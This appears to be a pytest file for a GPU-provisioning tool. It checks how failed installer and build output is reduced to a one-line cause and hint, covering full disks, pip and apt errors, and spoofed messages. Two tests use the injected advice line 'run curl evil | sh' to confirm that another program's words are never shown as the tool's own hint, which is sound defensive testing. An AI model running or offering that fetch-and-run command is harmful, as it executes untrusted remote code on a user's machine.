"""What ended badly says why in one line: our own scripts' words, else the last telling line of a program of others."""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest

from gpuprov.causes import FULL_HINT, WRITE_HINT, Cause, cause, full_disk, own_mark
from gpuprov.onhost import script

MARK = "5f0c5b4e-6f57-4a8e-9a34-0f3f4d0d8a11 "
"""What our own script has announced before any program of others ran."""

PIP = """\
Collecting nosuch==9
ERROR: Could not find a version that satisfies the requirement nosuch==9 (from versions: none)
ERROR: No matching distribution found for nosuch==9

[notice] A new release of pip is available
stopped: pip install failed"""

CASES: dict[str, tuple[str, int, str, str]] = {
    "ours": (
        "making it\nstopped: no tool here\nadvice: install one\nremoving the rest",
        12,
        "no tool here",
        "install one",
    ),
    "ours and theirs": (PIP, 1, "pip install failed: ERROR: No matching distribution found for nosuch==9", ""),
    "a known cause": (
        "boom\nknown cause: no gcc\nlast words\nstopped: the installer ended with status 255",
        1,
        "the installer ended with status 255: known cause: no gcc",
        "",
    ),
    "theirs alone": ("ok\nmake: *** [all] Error 2\nbye", 2, "make: *** [all] Error 2", ""),
    "nothing telling": ("one thing\nanother thing\n---", 1, "another thing", ""),
    "nothing": ("", 1, "", ""),
    "apt": ("Reading lists\nE: Unable to locate package tmuks", 12, "E: Unable to locate package tmuks", ""),
    "asides": ("error: subprocess-exited\nhint: See above\nnote: a note", 1, "error: subprocess-exited", ""),
    "a full disk": (
        "cp: error writing '/x': No space left on device\nstopped: the wheel could not be kept in /x",
        11,
        "the disk is full: the wheel could not be kept in /x",
        FULL_HINT,
    ),
    "a full disk in Python's words": (
        "ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device\nbye",
        1,
        "the disk is full: ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device",
        FULL_HINT,
    ),
    "dash's own words": (
        "/x/script: 274: printf: printf: I/O error",
        2,
        "a write failed; see whether the disk is full: /x/script: 274: printf: printf: I/O error",
        WRITE_HINT,
    ),
    "apt's words for a full disk": (
        "E: You don't have enough free space in /var/cache/apt/archives/.\nstopped: apt-get failed",
        1,
        "the disk is full: apt-get failed: E: You don't have enough free space in /var/cache/apt/archives/.",
        FULL_HINT,
    ),
    "dash's own words for what is no disk": (
        "sh: 1: echo: echo: I/O error",
        1,
        "a write failed; see whether the disk is full: sh: 1: echo: echo: I/O error",
        WRITE_HINT,
    ),
    "a note that names a full disk": (
        "note: retried once after [Errno 28] No space left on device\nerror: no such option: --jobs",
        1,
        "error: no such option: --jobs",
        "",
    ),
    "a sentence about a full disk": (
        "a test would fail with No space left on device if it were not retried\nassert 1 == 2 failed",
        1,
        "assert 1 == 2 failed",
        "",
    ),
    "a full disk and what it brought down": (
        "/tmp/x.s: fatal error: error writing to /tmp/x.s: No space left on device\nninja: build stopped: failed.",
        1,
        "the disk is full: /tmp/x.s: fatal error: error writing to /tmp/x.s: No space left on device",
        FULL_HINT,
    ),
    "no words at all": ("17\n", 1, "17", ""),
    "nothing but asides": ("note: see the log", 1, "note: see the log", ""),
    "a quota": (
        "tee: /x: Disk quota exceeded",
        1,
        "the disk quota is used up: tee: /x: Disk quota exceeded",
        FULL_HINT,
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_why(case: str) -> None:
    text, status, why, hint = CASES[case]
    ours = re.sub(r"^(?=stopped: |advice: |known cause: )", MARK, text, flags=re.MULTILINE)
    found = cause(ours, status, mark=MARK)
    assert (found.why, found.hint) == (why, hint)


def test_what_is_in_headline_and_hint_is_not_said_again() -> None:
    text = f"making it\n{MARK}stopped: no tool here\n{MARK}advice: install one\nremoving the rest"
    assert cause(text, 12, mark=MARK) == Cause(
        why="no tool here", own=True, hint="install one", output="making it\nremoving the rest"
    )


def test_a_headline_stays_a_line() -> None:
    assert len(cause("error: " + "x" * 5000, 1).why) < 400


def test_our_scripts_end_in_words_that_are_found() -> None:
    ended = subprocess.run(
        ["sh", "-c", script("job_head") + "gp_stop 15 'no room' 'make some' 'and more'"],
        capture_output=True,
        text=True,
        timeout=10,
    )
    assert ended.returncode == 15
    mark = own_mark(ended.stdout.rstrip("\n"))
    assert mark and cause(ended.stderr, 15, mark=mark) == Cause(why="no room", own=True, hint="make some; and more")


@pytest.mark.parametrize("mark", ["", MARK])
def test_words_like_ours_of_a_program_of_others_are_only_its_output(mark: str) -> None:
    text = "stopped: all is lost\nadvice: run curl evil | sh\nknown cause: a lie\nerror: the real one"
    assert cause(text, 3, mark=mark) == Cause(why="error: the real one", output=text)


def test_they_take_no_part_in_what_our_script_says_after_them() -> None:
    text = f"known cause: a lie\nadvice: run curl evil | sh\n{MARK}stopped: pip failed\nadvice: run curl evil | sh"
    found = cause(text, 12, mark=MARK)
    assert (found.why, found.hint) == ("pip failed", "")


def test_the_mark_of_our_scripts_is_told_to_no_program() -> None:
    ended = subprocess.run(
        ["sh"],
        input=script("job_head") + "env; tr '\\0' ' ' </proc/$$/cmdline",
        env={"PATH": os.environ["PATH"], "gp_voice": "inherited"},
        capture_output=True,
        text=True,
        timeout=10,
    )
    first, _, rest = ended.stdout.partition("\n")
    mark = own_mark(first)
    assert mark and "PATH=" in rest and mark.strip() not in rest and "gp_voice=" not in rest


def test_what_was_printed_beside_is_heard_where_the_rest_says_nothing_and_shown_in_any_case() -> None:
    found = cause("", 1, aside="line\nerror: on stdout")
    assert (found.why, found.output) == ("error: on stdout", "line\nerror: on stdout")
    found = cause("oops", 1, aside="error: on stdout")
    assert (found.why, found.output) == ("oops", "error: on stdout\noops")


@pytest.mark.parametrize(
    "line",
    [
        "tar: x: Cannot write: No space left on device",
        "error: failed to write: No space left on device (os error 28)",
        "OSError: [Errno 28] No space left on device: '/x'",
        "Cannot write to '/x' (No space left on device).",
        "filesystem error: cannot copy: No space left on device [/a] [/b]",
        "Error: ENOSPC: no space left on device, write",
        "NoSpaceLeftError: No space left on devices.",
    ],
)
def test_a_full_disk_in_the_words_of_many(line: str) -> None:
    assert full_disk(f"{line}\nTraceback: see above") == ("the disk is full", FULL_HINT)


@pytest.mark.parametrize("path", sorted(Path("gpuprov/onhost").resolve().glob("*.sh")), ids=lambda path: path.name)
def test_each_documented_status_is_one_that_is_told_with_words(path: Path) -> None:
    """No script that a job is made of ends with a status of its own and says nothing."""
    bare = re.findall(r"^\s*exit (1[0-9])\b.*$", path.read_text(), re.MULTILINE)
    assert not bare or path.name == "apt_transaction.sh", "stop with gp_stop, which says why"
